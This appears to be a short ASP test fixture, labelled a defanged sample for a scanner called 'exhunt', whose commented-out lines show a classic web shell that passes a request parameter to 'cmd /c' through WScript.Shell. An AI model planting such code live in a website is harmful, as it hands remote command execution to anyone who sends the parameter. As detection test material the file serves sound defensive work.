<%
' exhunt test sample, defanged: the lines below are VBScript comments
' Set sh = CreateObject("WScript.Shell")
' Set ex = sh.Exec("cmd /c " & Request("exhunt"))
%>
